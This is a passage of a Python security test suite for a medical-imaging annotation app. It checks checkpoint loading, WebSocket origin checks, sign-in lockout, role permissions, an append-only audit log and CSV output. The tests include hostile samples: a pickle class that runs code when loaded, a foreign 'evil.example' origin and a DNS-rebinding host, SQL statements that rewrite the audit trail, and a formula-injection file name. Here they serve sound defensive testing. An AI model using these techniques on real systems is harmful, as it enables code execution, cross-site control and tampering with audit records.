    config.write_text("task: classify\nmodel: cnn\ndataset: films\nepochs: 1\ndevice: cpu\n")
    verbs = [("users", "list"), ("users", "audit"), ("labels", "progress", "--dataset", "films"),
             ("split", "--dataset", "films"), ("db", "backup"), ("db", "upgrade"),
             ("import", "csv", str(manifest), "--dataset", "films"),
             ("export", "csv", "--dataset", "films", "--out", str(tmp_path / "out")),
             ("quiz", "list"), ("runs", "start", "--config", str(config))]
    for verb in verbs:
        line = one_line_refusal(cli(workspace, *verb))
        assert line.startswith("error: ") and "not a database" in line, (verb, line)


# ---------------------------------------------------------------------------------------------- checkpoints


class Executes:
    """Pickled as a call of Path.touch: loading the checkpoint with plain pickle would create the marker file."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (Path.touch, (self.marker,))


@pytest.mark.slow
def test_a_pickled_checkpoint_is_refused_in_one_line(workspace, tmp_path):
    import torch

    marker = tmp_path / "code-ran"
    evil = tmp_path / "evil.pt"
    torch.save({"state_dict": Executes(marker), "meta": {}}, evil)
    film = tmp_path / "film.png"
    film.write_bytes(png_bytes(1, 128))
    try:
        line = one_line_refusal(cli(workspace, "predict", str(film), "--model", str(evil)))
        assert "refused" in line or "not a CerviCurve checkpoint" in line
        for config in ("classify", "landmarks"):  # as a starting point for training
            line = one_line_refusal(cli(workspace, "train", "--config", f"configs/{config}.yaml",
                                        f"init_from={evil}", "device=cpu"))
            assert "refused" in line and "pickled code" in line, line
    finally:
        assert not marker.exists()


# ---------------------------------------------------------------------------------------------- the WebSocket


@pytest.fixture()
def server(tmp_path):
    """`streamlit run app.py` with the shipped .streamlit/config.toml (only the port set), answering HTTP."""
    port = free_port()
    env = dict(os.environ, CERVICURVE_HOME=str(tmp_path / "workspace"), CERVICURVE_PRELOAD="0")
    env.pop("CERVICURVE_DB", None)
    log = open(tmp_path / "server.log", "wb")
    process = subprocess.Popen([sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)],
                               cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
    def healthy() -> bool:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/_stcore/health", timeout=5) as answer:
                return answer.status == 200
        except OSError:
            assert process.poll() is None, (tmp_path / "server.log").read_text(errors="replace")[-2000:]
            return False

    try:
        wait_for(healthy, timeout=120, every=0.1,
                 message=lambda: (tmp_path / "server.log").read_text(errors="replace")[-2000:])
        yield port
    finally:
        os.killpg(process.pid, signal.SIGTERM)
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
        log.close()


def websocket_status(port: int, origin: str, host: str | None = None) -> int:
    """The HTTP status of a WebSocket handshake on /_stcore/stream (101 when it is accepted)."""
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect

    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    try:
        with connect(f"ws://{host or f'127.0.0.1:{port}'}/_stcore/stream", sock=sock, origin=origin,
                     open_timeout=30) as connection:
            return connection.response.status_code
    except InvalidStatus as refused:
        return refused.response.status_code


@pytest.mark.slow
def test_the_app_accepts_only_same_origin_websockets(server):
    """Before: enableCORS = false, and a page on any site could open the app's WebSocket and drive it."""
    assert websocket_status(server, f"http://127.0.0.1:{server}") == 101
    assert websocket_status(server, f"http://localhost:{server}", host=f"localhost:{server}") == 101
    assert websocket_status(server, "https://evil.example") == 403
    # DNS rebinding: a foreign name resolving to 127.0.0.1 is same-origin to the browser; the Host check refuses it
    assert websocket_status(server, f"http://rebind.example:{server}", host=f"rebind.example:{server}") == 403


# ==============================================================================================================
# Team mode (part 5)
# ==============================================================================================================

APP = str(ROOT / "app.py")


@pytest.fixture(autouse=True)
def no_delay(monkeypatch):
    """The fixed wait after a wrong password is not what these tests probe."""
    monkeypatch.setattr(accounts_module, "WRONG_PASSWORD_DELAY_S", 0.0)


@pytest.fixture()
def clock(monkeypatch):
    """The accounts' clock, moved by hand: ``clock.advance(seconds=31)``."""
    class Clock:
        def __init__(self):
            self.now = accounts_module._now()

        def __call__(self):
            return self.now

        def advance(self, **delta):
            self.now += timedelta(**delta)

    moved = Clock()
    monkeypatch.setattr(accounts_module, "_now", moved)
    return moved


def attempt(accounts: Accounts, name: str, password: str):
    """A token, None (wrong password) or the refusal raised (locked out, too many at once)."""
    try:
        return accounts.sign_in(name, password)
    except PermissionDenied as refusal:
        return refusal


# ---------------------------------------------------------------------------------------------- sign-in


def test_fifteen_wrong_passwords_lock_the_account_even_for_the_right_one(database):
    """Before: 15 wrong passwords, then the right one signed in."""
    with Accounts(database) as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        answers = [attempt(accounts, "ada", f"guess {n}") for n in range(15)]
        assert answers[:5] == [None] * 5  # five wrong passwords are answered as wrong
        assert all(isinstance(a, PermissionDenied) and "too many failed sign-ins" in str(a) for a in answers[5:])
        refused = attempt(accounts, "ada", "correct horse")
        assert not isinstance(refused, str), "the right password signed in straight after 15 wrong ones"
        assert "\n" not in str(refused)  # one line, saying when to try again
    # the count is in the database: a new engine (another process, a restart) sees the lock
    with Accounts(database) as restarted:
        assert not isinstance(attempt(restarted, "ada", "correct horse"), str)
        assert any(r["action"] == "sign_in" and not r["allowed"] and r["user_name"] == "ada"
                   for r in restarted.audit_log())


def test_the_lockout_doubles_with_each_failure_and_ends(database, clock):
    with Accounts(database) as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        for n in range(5):
            assert attempt(accounts, "ada", f"guess {n}") is None
        first = accounts.lockout("ada")
        assert first["failures"] == 5 and first["locked_until"] - clock.now == timedelta(seconds=30)
        clock.advance(seconds=31)
        assert attempt(accounts, "ada", "guess 6") is None  # allowed to try again, and wrong again
        assert accounts.lockout("ada")["locked_until"] - clock.now == timedelta(seconds=60)
        clock.advance(seconds=59)
        assert isinstance(attempt(accounts, "ada", "correct horse"), PermissionDenied)
        clock.advance(seconds=2)
        assert isinstance(attempt(accounts, "ada", "correct horse"), str)  # the lock ran out
        assert accounts.lockout("ada")["failures"] == 0  # and a success starts the count afresh


def test_an_unknown_name_is_locked_the_same_way(workspace):
    """A lockout must not tell which names are accounts: unknown ones lock after the same failures."""
    with Accounts() as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        for name in ("ada", "nobody"):
            answers = [attempt(accounts, name, "wrong horse") for _ in range(6)]
            assert answers[:5] == [None] * 5 and isinstance(answers[5], PermissionDenied)


@pytest.mark.slow
def test_failures_in_another_process_lock_this_one_until_an_admin_unlocks(workspace):
    """The count is shared by every process on the database; ``users unlock`` (the real CLI) clears it."""
    assert cli(workspace, "users", "add", "ada", "--role", "admin", stdin="correct horse\n").returncode == 0
    script = ("from core.data import accounts as a\n"
              "a.WRONG_PASSWORD_DELAY_S = 0\n"
              "with a.Accounts() as acc:\n"
              "    print([acc.sign_in('ada', 'guess') for _ in range(5)])\n")
    environment = {**os.environ, "CERVICURVE_HOME": str(workspace), "PYTHONPATH": str(ROOT)}
    environment.pop("CERVICURVE_DB", None)
    other = subprocess.run([sys.executable, "-c", script], cwd=ROOT, env=environment, capture_output=True,
                           text=True, timeout=300)
    assert other.returncode == 0 and "[None, None, None, None, None]" in other.stdout, other.stderr
    with Accounts() as accounts:
        assert isinstance(attempt(accounts, "ada", "correct horse"), PermissionDenied)
    unlocked = cli(workspace, "users", "unlock", "ada")
    assert unlocked.returncode == 0, unlocked.stderr
    with Accounts() as accounts:
        assert isinstance(attempt(accounts, "ada", "correct horse"), str)
    assert "unlock ada" in cli(workspace, "users", "audit").stdout


def test_sign_ins_hashed_at_once_are_capped_and_one_more_is_refused(workspace, monkeypatch):
    """Each argon2 check holds 64 MiB: two slots taken, a third try is refused at once, not queued."""
    monkeypatch.setenv("CERVICURVE_SIGNIN_CONCURRENT", "2")
    monkeypatch.setattr(accounts_module, "_HASHING", None, raising=False)  # sized again from the setting
    monkeypatch.setattr(accounts_module, "SIGN_IN_WAIT_S", 0.0, raising=False)
    with Accounts() as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        accounts.add_user("ben", "correct horse", "admin")
        real, inside, release = accounts_module._hasher(), threading.Semaphore(0), threading.Event()

        class HeldHasher:  # the real argon2 check, held open until the test lets it finish
            def verify(self, stored, password):
                inside.release()
                release.wait(60)
                return real.verify(stored, password)

        monkeypatch.setattr(accounts_module, "_hasher", HeldHasher)
        results: dict[str, object] = {}
        holders = [threading.Thread(target=lambda n=n: results.__setitem__(n, attempt(accounts, n, "correct horse")))
                   for n in ("ada", "ben")]
        for thread in holders:
            thread.start()
        assert inside.acquire(timeout=60) and inside.acquire(timeout=60)  # both are hashing now
        third = threading.Thread(target=lambda: results.__setitem__("third", attempt(accounts, "ada", "x")))
        third.start()
        third.join(10)  # refused at once when capped; before, it queued into a third 64 MiB hash
        finished = not third.is_alive()
        release.set()
        for thread in (*holders, third):
            thread.join(60)
        assert finished, "a third sign-in was hashed alongside the two"
        assert isinstance(results["third"], PermissionDenied) and "too many sign-ins at once" in str(results["third"])
        assert isinstance(results["ada"], str) and isinstance(results["ben"], str)


def test_the_password_is_not_kept_in_session_state(workspace, monkeypatch):
    """Before: ``st.session_state["sign_in_password"]`` held the typed password after the attempt."""
    monkeypatch.setenv("CERVICURVE_SIGNIN_FAILURES", "2")
    with Accounts() as accounts:
        accounts.add_user("ada", "correct horse", "admin")

    def kept(at: AppTest):
        try:
            return at.session_state["sign_in_password"]
        except KeyError:
            return None

    def sign_in(at: AppTest, password: str) -> AppTest:
        at.text_input(key="sign_in_name").input("ada")
        at.text_input(key="sign_in_password").input(password)
        at.button[0].click().run()
        assert not at.exception
        return at

    at = AppTest.from_file(APP, default_timeout=60).run()
    at.switch_page("pages/data.py").run()
    sign_in(at, "wrong horse 1")
    assert [e.value for e in at.error] == ["Wrong user name or password."]
    assert kept(at) in (None, ""), "the wrong password stayed in session state"
    sign_in(at, "wrong horse 2")
    sign_in(at, "correct horse")  # locked after two failures: refused, with when to try again
    assert len(at.error) == 1 and at.error[0].value.startswith("Sign-in refused: too many failed sign-ins")
    assert kept(at) in (None, "")
    with Accounts() as accounts:
        accounts.unlock("ada")
    sign_in(at, "correct horse")
    assert "signed in as **ada**" in " ".join(c.value for c in at.sidebar.caption)
    assert kept(at) in (None, "")


def test_a_session_ends_after_its_lifetime_however_busy(database, clock, monkeypatch):
    """Before: a session used every few minutes lived for ever (only the idle limit ended one)."""
    monkeypatch.setenv("CERVICURVE_SESSION_IDLE_MIN", "120")
    with Accounts(database) as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        token = accounts.sign_in("ada", "correct horse")
        for _ in range(11):  # in use every hour
            clock.advance(hours=1)
            assert accounts.user_for(token) is not None
        clock.advance(hours=1, minutes=1)  # 12 h 1 min after sign-in, the default lifetime
        assert accounts.user_for(token) is None
        with pytest.raises(PermissionDenied, match="sign in first"):
            accounts.authorize(token, "start_run")
        monkeypatch.setenv("CERVICURVE_SESSION_MAX_HOURS", "0.5")
        fresh = accounts.sign_in("ada", "correct horse")
        clock.advance(minutes=31)
        assert accounts.user_for(fresh) is None


# ---------------------------------------------------------------------------------------------- who may do what


@pytest.fixture()
def team(workspace):
    with Accounts() as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        accounts.add_user("ann", "annotator pw", "annotator")
        accounts.add_user("rui", "reviewer pw", "reviewer")
        accounts.add_user("rita", "reviewer pw", "reviewer")
        yield accounts


def _image(name: str = "a") -> int:
    from PIL import Image

    from core import settings

    Image.new("L", (64, 64), 128).save(settings.home() / f"{name}.png")
    with AnnotationStore() as store:
        return store.add_image(f"{name}.png", sha256=name * 64, width=64, height=64, patient_id="P1", source="t",
                               dataset="d")


def test_a_reviewer_cannot_accept_their_own_reading(team):
    """Before: rui labeled a film and accepted his own reading."""
    from core.data import labels

    rui, rita = team.sign_in("rui", "reviewer pw"), team.sign_in("rita", "reviewer pw")
    label_id = labels.save(_image(), annotator="rui", curvature_class="normal", roi_box=[1, 1, 30, 30],
                           landmarks=None, actor=rui)
    for verdict in ("accept", "fix"):
        with pytest.raises(PermissionDenied, match="own reading"):
            labels.review(label_id, reviewer="rita", verdict=verdict, curvature_class="reversed", actor=rui)
    with AnnotationStore() as store:
        assert store.reviews() == []
    refused = [r for r in team.audit_log() if not r["allowed"]]
    assert refused and (refused[0]["user_name"], refused[0]["action"]) == ("rui", "review")
    assert labels.review(label_id, reviewer="rui", verdict="accept", actor=rita) > 0  # another reviewer may
    with AnnotationStore() as store:
        assert [(r.reviewer, r.verdict) for r in store.reviews()] == [("rita", "accept")]


@pytest.mark.slow
def test_the_labels_command_refuses_a_review_of_ones_own_reading(team, workspace):
    from core.data import labels

    label_id = labels.save(_image(), annotator="rui", curvature_class="normal", roi_box=None, landmarks=None,
                           actor=SHELL)
    own = cli(workspace, "labels", "review", str(label_id), "--reviewer", "rui", "--verdict", "accept")
    assert own.returncode == 2 and "own reading" in own.stderr and "Traceback" not in own.stderr
    assert len(own.stderr.strip().splitlines()) == 1
    other = cli(workspace, "labels", "review", str(label_id), "--reviewer", "rita", "--verdict", "accept")
    assert other.returncode == 0, other.stderr


def test_quiz_answers_are_the_signed_in_users_and_quizzes_are_set_by_reviewers(team):
    """Before: an annotator could answer in any student's name, and set quizzes."""
    from core.data import quizzes

    ann, rui = team.sign_in("ann", "annotator pw"), team.sign_in("rui", "reviewer pw")
    items = quizzes.phantom_items(2, seed=3)
    with quizzes.QuizStore() as store:
        with pytest.raises(PermissionDenied, match="needs reviewer"):
            store.create(title="Q", teacher="ann", source="phantom", seed=3, items=items, actor=ann)
        with pytest.raises(PermissionDenied, match="sign in first"):
            store.create(title="Q", teacher="rui", source="phantom", seed=3, items=items, actor=None)
        with pytest.raises(PermissionDenied, match="cannot act as 'Dr Who'"):
            store.create(title="Q", teacher="Dr Who", source="phantom", seed=3, items=items, actor=rui)
        quiz_id = store.create(title="Q", teacher=None, source="phantom", seed=3, items=items, actor=rui)
        assert store.quiz(quiz_id).teacher == "rui"  # the signed-in teacher
        answers = {item.position: item.truth_class for item in items}
        with pytest.raises(PermissionDenied, match="cannot act as 'rita'"):
            store.answer(quiz_id, "rita", answers, actor=ann)
        with pytest.raises(PermissionDenied, match="sign in first"):
            store.answer(quiz_id, "ann", answers, actor=None)
        store.answer(quiz_id, None, answers, actor=ann)
        store.answer(quiz_id, "ann", answers, actor=ann)
        assert [s.student for s in store.results(quiz_id).students] == ["ann"]
    refused = {(r["user_name"], r["action"]) for r in team.audit_log() if not r["allowed"]}
    assert {("ann", "create_quiz"), ("ann", "answer_quiz"), ("(no session)", "create_quiz"),
            ("(no session)", "answer_quiz")} <= refused


def test_onnx_export_run_analysis_and_label_exports_need_an_admin(team, tmp_path):
    """Before: an annotator's session could export the promoted model, analyse a run and export every label."""
    from core.data import labels
    from core.inference import onnx_export, run_analysis
    from core.runs import layout

    ann = team.sign_in("ann", "annotator pw")
    run_dir = layout.new_run_dir("det")
    (run_dir / layout.CONFIG_FILE).write_text("task: detect\n")
    _image()
    calls = {"export_model": lambda actor: onnx_export.export_promoted("classify", actor=actor),
             "analyse": lambda actor: run_analysis.analyse(run_dir, "test", actor=actor),
             "export": lambda actor: labels.export("csv", "d", tmp_path / "out", actor=actor)}
    for action, call in calls.items():
        with pytest.raises(PermissionDenied, match="needs admin"):
            call(ann)
        with pytest.raises(PermissionDenied, match="sign in first"):
            call(None)
    assert not (tmp_path / "out").exists() and not (run_dir / "test_analysis.json").exists()
    refused = {(r["user_name"], r["action"]) for r in team.audit_log() if not r["allowed"]}
    assert {(who, action) for who in ("ann", "(no session)") for action in calls} <= refused
    admin = team.sign_in("ada", "correct horse")
    assert labels.export("csv", "d", tmp_path / "out", actor=admin) is not None


# ---------------------------------------------------------------------------------------------- the audit


def test_the_audit_table_refuses_update_and_delete(database):
    """Before: ``UPDATE audit`` and ``DELETE FROM audit`` went through, so a trail could be rewritten."""
    with Accounts(database) as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        accounts.authorize(SHELL, "manage_users", "add ada")
        before = accounts.audit_log()
    engine = create_engine(database)
    statements = ["UPDATE audit SET allowed = false", "UPDATE audit SET user_name = 'nobody'", "DELETE FROM audit"]
    if engine.dialect.name == "postgresql":
        statements.append("TRUNCATE audit")
    try:
        for statement in statements:
            with pytest.raises(DBAPIError, match="append-only"):
                with engine.begin() as conn:
                    conn.execute(text(statement))
    finally:
        engine.dispose()
    with Accounts(database) as accounts:
        assert accounts.audit_log() == before
        accounts.authorize(SHELL, "promote", "run-1")  # appending still works
        assert len(accounts.audit_log()) == len(before) + 1


def test_an_older_database_gets_the_trigger_when_opened(database):
    """A database made before the trigger (its audit table as it was) is upgraded in place by opening it."""
    engine = create_engine(database)
    try:
        accounts_module.metadata.create_all(engine)  # the tables only, as an older CerviCurve left them
        with engine.begin() as conn:
            conn.execute(accounts_module.audit.insert().values(at=accounts_module._now(), user_name="shell",
                                                               action="promote", target="old", allowed=True))
            conn.execute(text("DELETE FROM audit WHERE target = 'nothing'"))  # no trigger yet
        Accounts(database).close()
        with pytest.raises(DBAPIError, match="append-only"):
            with engine.begin() as conn:
                conn.execute(text("DELETE FROM audit"))
    finally:
        engine.dispose()


def test_a_refused_admin_action_without_a_session_is_audited(team, workspace):
    """Before: an action tried with no session, or a made-up token, was refused but left no audit row."""
    from core.data import importers
    from core.runs import launch

    with pytest.raises(PermissionDenied, match="sign in first"):
        launch.start_run({"task": "classify", "model": "cnn", "dataset": "none", "epochs": 1}, actor=None)
    with pytest.raises(PermissionDenied, match="sign in first"):
        importers.import_phantoms("p", actor="made-up token", patients=1, size=96)
    refused = [(r["user_name"], r["action"]) for r in team.audit_log() if not r["allowed"]]
    assert ("(no session)", "start_run") in refused and ("(no session)", "import") in refused
    listing = cli(workspace, "users", "audit").stdout
    assert "(no session)" in listing and "REFUSED" in listing


@pytest.mark.slow
def test_the_teach_page_in_team_mode_sets_and_answers_as_the_signed_in_user(team):
    """On the page: an annotator cannot set a quiz; a reviewer's quiz records the reviewer; the annotator answers as
    themself (no name to type) and a student name forged into session state is not used."""
    from core.data import quizzes

    def teach_as(name: str, password: str) -> AppTest:
        at = AppTest.from_file(APP, default_timeout=60).run()
        at.switch_page("pages/teach.py").run()
        at.text_input(key="sign_in_name").input(name)
        at.text_input(key="sign_in_password").input(password)
        at.button[0].click().run()
        at.radio(key="teach_part").set_value("Self-test").run()
        assert not at.exception
        return at

    def create(at: AppTest) -> AppTest:
        at.radio(key="quiz_role").set_value("Set a quiz").run()
        assert not any(t.key == "quiz_teacher" for t in at.text_input)  # the teacher is the signed-in user
        at.number_input(key="quiz_films").set_value(2)
        next(b for b in at.button if b.label == "Create the quiz").click().run()
        assert not at.exception
        return at

    annotator = create(teach_as("ann", "annotator pw"))
    assert any("create_quiz: user 'ann' is annotator; it needs reviewer" in e.value for e in annotator.error)
    reviewer = create(teach_as("rui", "reviewer pw"))
    assert reviewer.success and "by rui" in reviewer.success[0].value

    at = teach_as("ann", "annotator pw")
    assert not any(t.key == "quiz_student" for t in at.text_input)
    made = quizzes.QuizStore().quiz(1)
    for item in made.items:
        at.session_state[f"quiz_1_answer_{item.position}"] = item.truth_class
    at.session_state["quiz_student"] = "rita"  # forged: there is no such field in team mode
    at.button(key="quiz_submit").click().run()
    assert not at.exception and not at.error
    assert any(m.value == "### Score: 2/2 (100%)" for m in at.markdown)
    with quizzes.QuizStore() as store:
        assert [s.student for s in store.results(1).students] == ["ann"]


def test_bad_team_settings_are_named_at_start(workspace, monkeypatch):
    from core import settings

    bad = {"CERVICURVE_SIGNIN_FAILURES": "0", "CERVICURVE_SIGNIN_LOCKOUT_S": "-1",
           "CERVICURVE_SIGNIN_CONCURRENT": "many", "CERVICURVE_SESSION_MAX_HOURS": "0"}
    for name, value in bad.items():
        monkeypatch.setenv(name, value)
    with pytest.raises(settings.SettingsError) as refused:
        settings.check()
    assert all(f"{name}={value!r}" in str(refused.value) for name, value in bad.items())
    for name in bad:
        monkeypatch.delenv(name)
    settings.check()
    assert (settings.sign_in_failures(), settings.sign_in_lockout_s(), settings.sign_in_concurrent(),
            settings.session_max_hours()) == (5, 30.0, 4, 12.0)


@pytest.mark.slow
def test_the_predictions_csv_never_starts_a_formula(workspace, tmp_path):
    """A film named like a formula: predict --out writes its name into predictions.csv as text, not a formula."""
    from core.data import phantom

    phantom.write_phantoms(tmp_path / "ph", 12, 1, seed=2, size=96, formats=("csxa",))
    for args in (("import", "csxa", str(tmp_path / "ph" / "csxa"), "--dataset", "ph"), ("split", "--dataset", "ph")):
        assert cli(workspace, *args).returncode == 0
    trained = cli(workspace, "train", "--config", "configs/classify.yaml", "dataset=ph", "model=cnn", "input_size=32",
                  "epochs=1", "batch_size=4", "n_boot=10", "device=cpu")
    assert trained.returncode == 0, trained.stderr
    run_id = Path(trained.stdout.strip().splitlines()[-1]).name
    assert cli(workspace, "runs", "promote", run_id).returncode == 0
    film = tmp_path / "=HYPERLINK(1).png"
    film.write_bytes(png_bytes(3, 96))
    env = {**os.environ, "CERVICURVE_HOME": str(workspace), "PYTHONPATH": str(ROOT), "OMP_WAIT_POLICY": "PASSIVE"}
    done = subprocess.run([sys.executable, "-m", "core", "predict", film.name, "--out", "out", "--cam", "none"],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    with open(tmp_path / "out" / "predictions.csv", newline="", encoding="utf-8") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["file"] == "'=HYPERLINK(1).png"
